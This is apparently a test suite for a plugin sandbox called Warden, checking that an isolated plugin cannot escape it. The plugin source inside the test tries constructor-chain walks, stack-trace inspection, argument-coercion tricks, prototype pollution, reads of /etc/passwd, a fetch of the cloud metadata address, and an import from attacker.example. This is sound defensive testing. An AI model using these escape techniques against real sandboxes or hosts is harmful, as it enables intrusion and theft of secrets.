// Escape attempts from inside the isolate, written as a plugin author would try them, each next to
// the normal use that must still work. The host must never hand the plugin a host object, never
// call back into a plugin object, and must read every argument once, as a copy.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { memoryAuditLog } from "../../core/audit/audit-log.ts";
import { createDefaultLogger } from "../../core/logger.ts";
import { loadPlugin, type PluginHandle } from "../../core/plugin.ts";
import { manifest, scratch, type Scratch } from "../helpers/plugin-dir.ts";

let s: Scratch;
let p: PluginHandle;

const source = `
const probe = "return [typeof process, typeof require, typeof globalThis.Deno, globalThis === this].join()";

// Everything warden hands in: functions, classes, instances, errors from the bridge.
async function handedIn() {
  const things = {
    "Warden.fs.readTextFile": Warden.fs.readTextFile, "Warden.exec": Warden.exec, "Warden.env.get": Warden.env.get,
    "Warden.channels.subscribe": Warden.channels.subscribe, "Warden.permissions.query": Warden.permissions.query,
    "Warden.plugin": Warden.plugin, "Warden.config": Warden.config, Warden, fetch, Response, Headers,
    "new Response": new Response("x"), "new Headers": new Headers({ a: "1" }), URL, "new URL": new URL("http://x/"),
    TextEncoder, TextDecoder, console, "console.log": console.log, setTimeout, structuredClone, crypto, "crypto.randomUUID": crypto.randomUUID,
  };
  try { await Warden.fs.readTextFile("/etc/passwd"); } catch (e) { things["a PermissionDenied error"] = e; }
  try { await fetch("http://169.254.169.254/"); } catch (e) { things["a fetch error"] = e; }
  try { await Warden.fs.readTextFile(42); } catch (e) { things["a BAD_INPUT error"] = e; }
  return things;
}

export async function constructorWalk() {
  const out = {};
  for (const [name, v] of Object.entries(await handedIn())) {
    if (v === null || v === undefined) continue;
    const results = [];
    // Walk prototypes and constructors as far as they go, trying Function at every step.
    const seen = new Set();
    let cur = v;
    for (let depth = 0; depth < 8 && cur !== null && cur !== undefined && !seen.has(cur); depth++) {
      seen.add(cur);
      const F = (typeof cur === "function" ? cur : cur.constructor)?.constructor;
      if (typeof F === "function") {
        try { results.push(F("return (function () {" + probe.replace("this", "globalThis") + "})()")()); } catch (e) { results.push("threw " + e.name); }
        results.push(F === Function ? "same Function" : "OTHER Function");
      }
      cur = Object.getPrototypeOf(cur);
    }
    out[name] = [...new Set(results)];
  }
  return out;
}

export async function stackInspection() {
  const frames = [];
  Error.prepareStackTrace = (err, callsites) => {
    for (const c of callsites) {
      let fn, self;
      try { fn = c.getFunction(); } catch {}
      try { self = c.getThis(); } catch {}
      frames.push({ file: String(c.getFileName()), fn: typeof fn, fnIsLocal: fn === undefined || fn.constructor === Function || fn.constructor === (async function () {}).constructor, self: typeof self });
    }
    return "custom";
  };
  try { await Warden.fs.readTextFile("/etc/passwd"); } catch (e) { void e.stack; }
  await new Promise((r) => setTimeout(r, 1));
  const inner = new Error("probe"); void inner.stack;
  Error.prepareStackTrace = undefined;
  return frames;
}

export async function sneakyArguments() {
  const r = {};
  let thenCalled = false;
  const thenable = { then(resolve) { thenCalled = true; resolve("/etc/passwd"); } };
  try { await Warden.fs.readTextFile(thenable); r.thenable = "accepted"; } catch (e) { r.thenable = e.code; }
  r.thenCalledByHost = thenCalled;

  let reads = 0;
  const flipping = { name: "read", get path() { reads++; return reads === 1 ? "data/ok.txt" : "/etc/passwd"; } };
  r.flippingGetter = await Warden.permissions.query(flipping);
  r.getterReads = reads;

  try { await Warden.fs.readTextFile(new Proxy({}, { get() { throw new Error("trap"); }, ownKeys() { throw new Error("trap"); } })); r.proxy = "accepted"; } catch (e) { r.proxy = e.code; }
  try { await Warden.fs.readTextFile({ toString() { return "/etc/passwd"; } }); r.toStringTrick = "accepted"; } catch (e) { r.toStringTrick = e.code; }
  try { await Warden.fs.readTextFile({ [Symbol.toPrimitive]() { return "data/ok.txt"; } }); r.toPrimitive = "accepted"; } catch (e) { r.toPrimitive = e.code; }
  try { await Warden.fs.readTextFile({ toJSON() { return "/etc/passwd"; } }); r.toJSON = "accepted"; } catch (e) { r.toJSON = e.code; }
  const cyclic = {}; cyclic.self = cyclic;
  try { await Warden.permissions.query(cyclic); r.cyclic = "accepted"; } catch (e) { r.cyclic = e.code; }
  let deep = []; for (let i = 0; i < 200000; i++) deep = [deep];
  try { await Warden.channels.publish("t", deep); r.deep = "accepted"; } catch (e) { r.deep = e.code; }
  let deepish = []; for (let i = 0; i < 5000; i++) deepish = [deepish];
  try { await Warden.permissions.query({ name: "read", path: deepish }); r.deepish = "accepted"; } catch (e) { r.deepish = e.code; }
  r.control = await Warden.fs.readTextFile("data/ok.txt");
  return r;
}

export async function tamperedRead() {
  JSON.stringify = () => '["data/ok.txt"]';
  Object.prototype.value = "polluted";
  const r = {};
  try { r.forbidden = await Warden.fs.readTextFile("/etc/passwd"); } catch (e) { r.forbidden = e.code; }
  r.granted = await Warden.fs.readTextFile("data/ok.txt");
  return r;
}

export async function codeFromStrings() {
  return {
    eval: eval("typeof process + '/' + typeof require"),
    newFunction: new Function("return typeof process")(),
    indirectEval: (0, eval)("typeof globalThis.process"),
    asyncFunction: await (async function () {}).constructor("return typeof require")(),
    generator: (function* () {}).constructor("yield typeof process")().next().value,
    works: eval("[1,2,3].map((x) => x * 2).join()"),
  };
}

export async function dynamicImports() {
  const out = {};
  for (const spec of ["node:fs", "fs", "child_process", "/etc/passwd", "../outside.js", "./index.js", "data:text/javascript,export default 1", "https://attacker.example/x.js", "file:///etc/passwd"]) {
    try { await import(spec); out[spec] = "IMPORTED"; } catch (e) { out[spec] = e.message; }
  }
  return out;
}
`;

describe("escape attempts", () => {
  before(async () => {
    s = scratch();
    const dir = s.plugin("escaper", manifest("test.escaper", { permissions: { read: ["data/"], channels: { publish: ["t"] } } }), { "index.js": source, "data/ok.txt": "granted" });
    p = await loadPlugin(dir, { audit: memoryAuditLog(), logger: createDefaultLogger("silent"), quarantine: { maxFailures: 1000 } });
  });
  after(async () => {
    await p.close();
    s.cleanup();
  });

  it("constructor.constructor and prototype walks from everything warden hands in reach only the plugin's own realm", async () => {
    const walks = (await p.invoke("constructorWalk")) as Record<string, string[]>;
    assert.ok(Object.keys(walks).length >= 24, Object.keys(walks).join(", "));
    for (const [name, results] of Object.entries(walks)) {
      for (const r of results) {
        assert.ok(r === "undefined,undefined,undefined,true" || r === "same Function" || r.startsWith("threw"), `${name}: ${r}`);
      }
      assert.ok(results.includes("same Function"), `${name} leads to the isolate's own Function`);
    }
  });

  it("Error.prepareStackTrace sees only frames of the plugin's realm (no host function, no host receiver)", async () => {
    const frames = (await p.invoke("stackInspection")) as Array<{ file: string; fn: string; fnIsLocal: boolean; self: string }>;
    assert.ok(frames.length > 0);
    for (const f of frames) assert.equal(f.fnIsLocal, true, JSON.stringify(f));
  });

  it("thenables, getters, proxies, toString/toPrimitive/toJSON tricks, cycles and deep nesting are copied once inside the isolate, never called by the host", async () => {
    const r = (await p.invoke("sneakyArguments")) as Record<string, unknown>;
    assert.equal(r["thenable"], "BAD_INPUT");
    assert.equal(r["thenCalledByHost"], false);
    assert.deepEqual(r["flippingGetter"], { state: "granted", rule: "data/", source: "permissions.read[0]" }, "the host answered the one value it was given");
    assert.equal(r["getterReads"], 1, "the getter ran once, inside the isolate");
    assert.equal(r["proxy"], "BAD_INPUT");
    assert.equal(r["toStringTrick"], "BAD_INPUT");
    assert.equal(r["toPrimitive"], "BAD_INPUT");
    assert.equal(r["toJSON"], "PERMISSION_DENIED", "toJSON runs in the plugin's isolate; the host checks the value it produced");
    assert.equal(r["cyclic"], "BAD_INPUT");
    assert.equal(r["deep"], "BAD_INPUT");
    assert.equal(r["deepish"], "BAD_INPUT");
    assert.equal(r["control"], "granted");
  });

  it("replacing the intrinsics the bridge might use changes nothing: forbidden stays forbidden, granted still works", async () => {
    assert.deepEqual(await p.invoke("tamperedRead"), { forbidden: "PERMISSION_DENIED", granted: "granted" });
  });

  it("eval and new Function work, and reach nothing of the host", async () => {
    assert.deepEqual(await p.invoke("codeFromStrings"), {
      eval: "undefined/undefined",
      newFunction: "undefined",
      indirectEval: "undefined",
      asyncFunction: "undefined",
      generator: "undefined",
      works: "2,4,6",
    });
  });

  it("import() of anything fails with a clear error", async () => {
    const r = (await p.invoke("dynamicImports")) as Record<string, string>;
    for (const [spec, message] of Object.entries(r)) assert.match(message, /import\(\) is not (supported|offered)|Not supported/, `${spec}: ${message}`);
  });
});
